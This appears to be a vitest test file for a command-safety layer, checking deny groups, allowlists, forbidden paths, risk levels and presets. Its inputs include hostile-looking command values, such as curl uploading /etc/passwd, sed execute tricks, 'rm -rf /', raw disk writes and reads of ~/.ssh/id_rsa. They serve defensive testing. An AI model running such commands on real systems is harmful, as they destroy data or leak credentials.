import { describe, expect, it } from 'vitest';
import { PRESET_RULES } from '../profiles/presets';
import { literalWord } from '../shell/words';
import { DENY_GROUPS, profileRulesSchema } from '../types';
import { allowed, explicitlyListed } from './allowlist';
import { DENY_GROUP_DESCRIPTORS, GROUP_DEFAULTS, matchGroups } from './deny-groups';
import { DENY_RULES } from './deny-rules';
import { checkPaths, resolvePath } from './forbidden-paths';
import { type GroupView, hasWord } from './group-view';
import { commandRisk, segmentRisk } from './risk';

const view = (name: string, args: string[] = [], extra: Partial<GroupView> = {}): GroupView => ({
  name,
  args,
  assignments: [],
  wrappers: [],
  redirects: [],
  strings: [...args],
  feedsCode: false,
  transforms: false,
  paths: [],
  writes: [],
  ...extra,
});
const ids = (v: GroupView, rules = profileRulesSchema.parse({})) => matchGroups(v, rules).map((m) => m.ruleId);

describe('deny groups', () => {
  it('lists the fifteen groups with descriptions, defaults and their rules', () => {
    expect(DENY_GROUP_DESCRIPTORS.map((d) => d.name)).toEqual([...DENY_GROUPS]);
    for (const d of DENY_GROUP_DESCRIPTORS) {
      expect(d.description.length).toBeGreaterThan(10);
      expect(d.patterns.length).toBeGreaterThan(0);
      expect(d.default).toBe(d.name === 'package_install' ? 'approval' : 'deny');
    }
    expect(GROUP_DEFAULTS.package_install).toBe('approval');
    const all = DENY_RULES.map((r) => r.id);
    expect(new Set(all).size).toBe(all.length);
    for (const r of DENY_RULES) expect(r.id.startsWith(`${r.group}.`)).toBe(true);
  });

  it('matches parsed command names, not words inside arguments', () => {
    expect(ids(view('sudo', ['ls']))).toEqual(['privilege_escalation.sudo']);
    expect(ids(view('ls', [], { wrappers: ['env', 'sudo'] }))).toEqual(['privilege_escalation.sudo']);
    expect(ids(view('grep', ['-rn', 'sudo', '.']))).toEqual([]);
    expect(ids(view('echo', ['su -c id']))).toEqual([]);
    expect(ids(view('echo', ['suất ăn']))).toEqual([]);
    expect(ids(view('sudoku'))).toEqual([]);
  });

  it('follows the group modes of the profile', () => {
    const v = view('sudo', ['ls']);
    expect(matchGroups(v, profileRulesSchema.parse({ denyGroups: { privilege_escalation: 'off' } }))).toEqual([]);
    expect(matchGroups(v, profileRulesSchema.parse({ denyGroups: { privilege_escalation: 'approval' } }))[0].mode).toBe('approval');
    expect(matchGroups(view('pip', ['install', '-r', 'r.txt']), profileRulesSchema.parse({}))[0]).toMatchObject({ group: 'package_install', mode: 'approval' });
    // A named package from the default index is not the group's (it is a medium-risk change).
    expect(matchGroups(view('pip', ['install', 'x']), profileRulesSchema.parse({}))).toEqual([]);
  });

  it('reads options the way the tools do', () => {
    expect(ids(view('rm', ['-fr', 'x']))).toContain('destructive_ops.rm_recursive_force');
    expect(ids(view('rm', ['x', '-R']))).toContain('destructive_ops.rm_recursive_force');
    expect(ids(view('rm', ['x']))).toEqual([]);
    expect(ids(view('curl', ['-d@data.json', 'https://x']))).toContain('data_exfiltration.curl_upload');
    expect(ids(view('curl', ['--data', 'a=@/etc/passwd', 'https://x']))).toContain('data_exfiltration.curl_upload');
    expect(ids(view('curl', ['-XPOST', '-d', 'name=Card', 'https://x']))).toEqual([]);
    expect(ids(view('curl', ['-X', 'GET', 'https://x']))).toEqual([]);
    expect(ids(view('kill', ['-s', 'KILL', '1']))).toContain('process_control.kill_9');
    expect(ids(view('kill', ['-15', '1234']))).toEqual([]);
    expect(ids(view('kill', ['-15', '1']))).toEqual(['process_control.kill_all']);
    expect(ids(view('sort', ['--co=sh']))).toContain('filter_bypass.sort_compress');
    expect(ids(view('sort', ['--check']))).toEqual([]);
    expect(ids(view('sed', ['-n', 's/a/b/gpe']))).toContain('filter_bypass.sed_execute');
    expect(ids(view('sed', ['s|a/e|b|g']))).toEqual([]);
    expect(ids(view('sed', ['1e id']))).toContain('filter_bypass.sed_execute');
    expect(ids(view('curl', ['http://user@127.0.0.1:80/']))).toContain('data_exfiltration.loopback');
    expect(ids(view('curl', ['https://127.example.com/']))).toEqual([]);
    expect(ids(view('dd', ['if=a', 'of=b']))).toEqual(['destructive_ops.dd']);
    expect(ids(view('cat', ['x'], { redirects: [{ op: '>', target: '/dev/sda' }] }))).toEqual(['destructive_ops.raw_disk_write']);
  });

  it('finds short words with Unicode-aware boundaries', () => {
    expect(hasWord('su root', 'su')).toBe(true);
    expect(hasWord('x;su', 'su')).toBe(true);
    expect(hasWord('suất ăn', 'su')).toBe(false);
    expect(hasWord('sudoku', 'su')).toBe(false);
    expect(hasWord('ésu', 'su')).toBe(false);
    expect(hasWord('𝐀su', 'su')).toBe(false);
    expect(hasWord('import Socket', 'Socket')).toBe(true);
  });
});

describe('allowedCommands', () => {
  const list = (entries: string[]) => ({ entries, home: '/home/u' });
  it('* allows any command without naming one', () => {
    expect(allowed('anything', list(['*']))).toBe(true);
    expect(explicitlyListed('rm', list(['*']))).toBe(false);
  });
  it('matches plain names by basename ignoring case, path-like entries exactly after ~ expansion', () => {
    expect(allowed('/usr/bin/Git', list(['git']))).toBe(true);
    expect(allowed('GIT', list(['git']))).toBe(true);
    expect(allowed('gitx', list(['git']))).toBe(false);
    expect(allowed('/opt/tools/run', list(['/opt/tools/run']))).toBe(true);
    expect(allowed('run', list(['/opt/tools/run']))).toBe(false);
    expect(allowed('/home/u/bin/x', list(['~/bin/x']))).toBe(true);
    expect(allowed('~/bin/x', list(['/home/u/bin/x']))).toBe(true);
    expect(allowed('/other/bin/x', list(['~/bin/x']))).toBe(false);
    expect(allowed('cd', list(['ls']))).toBe(true);
    expect(allowed('/usr/bin/cd', list(['ls']))).toBe(false);
  });
});

describe('forbidden paths and workspace-only', () => {
  const rules = { forbiddenPaths: ['/etc', '~/.ssh'], workspaceOnly: true, workspaceRoot: '/workspace', cwd: '/workspace/app', home: '/workspace/home' };
  const w = (...vals: string[]) => vals.map(literalWord);
  it('normalises, expands ~ and resolves .. against the working directory', () => {
    expect(resolvePath('../x/./y/../z', '/workspace/app', '/h')).toBe('/workspace/x/z');
    expect(checkPaths(w('src/a.ts', './b', '/workspace/c'), [], rules)).toBeNull();
    expect(checkPaths(w('../../etc/passwd'), [], rules)?.rule).toBe('forbidden_path');
    expect(checkPaths(w('~/.ssh/id_rsa'), [], rules)?.rule).toBe('forbidden_path');
    expect(checkPaths(w('--file=/etc/hosts'), [], rules)?.rule).toBe('forbidden_path');
    expect(checkPaths(w('/srv/x'), [], rules)?.rule).toBe('workspace_only');
    expect(checkPaths([], w('/srv/out.txt'), rules)?.rule).toBe('workspace_only');
    expect(checkPaths(w('/dev/null'), [], rules)).toBeNull();
    expect(checkPaths(w('/etcetera'), [], { ...rules, workspaceOnly: false })).toBeNull();
  });
  const g = (...vals: string[]) => vals.map((v) => ({ ...literalWord(v), expands: true }));
  it('judges a glob by the folder it can reach, and an unknown value as any path', () => {
    expect(checkPaths(g('/e*/passwd'), [], { ...rules, workspaceOnly: false })?.rule).toBe('forbidden_path');
    expect(checkPaths(g('src/*.ts'), [], rules)).toBeNull();
    expect(checkPaths(g('src/*/../../../etc'), [], rules)).not.toBeNull();
    expect(checkPaths([{ ...literalWord('$X'), dynamic: true }], [], rules)).not.toBeNull();
    expect(checkPaths(w('/anything'), [], { ...rules, forbiddenPaths: [], workspaceOnly: false })).toBeNull();
  });
  it('matches a glob segment by segment: only the folders it can name, quoted globs literal', () => {
    const open = { ...rules, workspaceOnly: false };
    expect(checkPaths(g('/w*/x'), [], open)).toBeNull();
    expect(checkPaths(g('/e[st]c/passwd', '/?tc', '/*'), [], open)?.rule).toBe('forbidden_path');
    expect(checkPaths(g('/e[!t]c/passwd'), [], open)).toBeNull();
    expect(checkPaths(w('/e*/passwd'), [], open)).toBeNull();
    expect(checkPaths([{ ...literalWord('/e*'), expands: true, pattern: '/e\\*' }], [], open)).toBeNull();
    expect(checkPaths(g('/{usr,etc}/passwd'), [], open)?.rule).toBe('forbidden_path');
    expect(checkPaths(g('/{usr,srv}/passwd'), [], open)).toBeNull();
    expect(checkPaths(g('/w*'), [], { ...rules, forbiddenPaths: [] })?.rule).toBe('workspace_only');
    expect(checkPaths(g('/workspace/src/*.ts'), [], { ...rules, forbiddenPaths: [] })).toBeNull();
    expect(checkPaths(g('.s*'), [], { ...rules, cwd: '/workspace/home' })?.rule).toBe('forbidden_path');
  });
  it('reads ~root as /root and an unknown ~user as any path', () => {
    const r = { ...rules, forbiddenPaths: ['/root'], workspaceOnly: false };
    expect(resolvePath('~root/.ssh', '/w', '/h')).toBe('/root/.ssh');
    expect(resolvePath('~+/x', '/w', '/h')).toBe('/w/x');
    expect(checkPaths(w('~root/.ssh/id_rsa'), [], r)?.rule).toBe('forbidden_path');
    expect(checkPaths(w('~alice/.ssh/id_rsa'), [], r)?.rule).toBe('forbidden_path');
    expect(checkPaths(w('~alice/x'), [], { ...rules, forbiddenPaths: [] })?.rule).toBe('workspace_only');
    expect(checkPaths(w('~/x'), [], { ...r, home: '/workspace/h' })).toBeNull();
  });
});

describe('risk levels', () => {
  it('marks the high-risk names, mutating verbs and file changes', () => {
    expect(commandRisk(['/bin/rm', '/x'])).toBe('high');
    // curl and wget are ordinary tools; the data_exfiltration group judges uploads and pipes into shells.
    expect(commandRisk(['curl', 'https://x'])).toBe('low');
    expect(commandRisk(['rm', 'notes.txt'])).toBe('medium');
    expect(commandRisk(['rm', 'out/a.txt', 'b'])).toBe('medium');
    for (const a of [['-f', 'x'], ['/etc/x'], ['../x'], ['~/x'], ['*.txt'], ['.'], ['a/../../b'], []])
      expect(commandRisk(['rm', ...a]), a.join(' ')).toBe('high');
    expect(commandRisk(['docker', 'run', '--privileged', 'alpine'])).toBe('high');
    expect(commandRisk(['docker', 'run', '-v', '/:/host', 'alpine'])).toBe('high');
    expect(commandRisk(['docker', 'run', '--pid=host', 'alpine'])).toBe('high');
    expect(commandRisk(['docker', 'ps'])).toBe('low');
    expect(commandRisk(['mkfs.ext4', '/dev/x'])).toBe('high');
    expect(commandRisk(['git', 'status'])).toBe('low');
    expect(commandRisk(['git', '-C', 'repo', 'push'])).toBe('medium');
    expect(commandRisk(['npm', 'install'])).toBe('medium');
    expect(commandRisk(['npm', 'test'])).toBe('low');
    expect(commandRisk(['mkdir', 'x'])).toBe('medium');
    expect(commandRisk(['ls'])).toBe('low');
    expect(segmentRisk(['ls'], ['sudo'])).toBe('high');
  });
});

describe('presets', () => {
  it('balanced is the schema default; locked_down and yolo follow their definitions', () => {
    expect(PRESET_RULES.balanced).toEqual(profileRulesSchema.parse({}));
    expect(PRESET_RULES.locked_down.allowedCommands).toContain('python3');
    expect(PRESET_RULES.locked_down.allowedCommands).not.toContain('*');
    expect(PRESET_RULES.locked_down.workspaceOnly).toBe(true);
    expect(PRESET_RULES.locked_down.forbiddenPaths).toContain('~/.ssh');
    expect(Object.values(PRESET_RULES.yolo.denyGroups)).toEqual(DENY_GROUPS.map(() => 'off'));
    expect(PRESET_RULES.yolo).toMatchObject({ blockHighRisk: false, preChecks: false, blockInterpreterArgs: false, writeThenRun: 'off' });
  });
});

describe('the command index of the deny rules', () => {
  it('never hides a match: a rule limited to some commands matches nothing else', () => {
    const probes = ['ls', 'cat', 'python3', 'bash', 'x'];
    const argSets = [
      [],
      ['-rf', '/'],
      ['-9', '1'],
      ['-X', 'POST', 'http://localhost'],
      ['s/a/b/e'],
      ['--co=sh'],
      ['--pre=sh'],
      ['-d'],
      ['install', 'x'],
      ['-x'],
      ['/etc/x', '777'],
    ];
    for (const r of DENY_RULES.filter((x) => x.commands)) {
      for (const name of probes) for (const args of argSets) expect(r.test(view(name, args)), `${r.id} on ${name} ${args.join(' ')}`).toBe(false);
    }
  });
});
